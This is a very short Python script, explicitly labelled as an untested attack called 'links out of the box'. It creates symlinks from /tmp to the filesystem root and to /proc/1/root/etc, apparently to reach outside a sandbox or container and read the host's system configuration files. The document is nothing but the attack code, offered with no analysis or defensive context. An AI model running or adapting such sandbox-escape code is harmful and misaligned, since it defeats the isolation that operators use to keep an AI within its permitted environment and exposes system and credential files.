# attack: links out of the box
# verdict: untested
import os

os.symlink("/", "/tmp/root")
os.symlink("/proc/1/root/etc", "/tmp/etc")
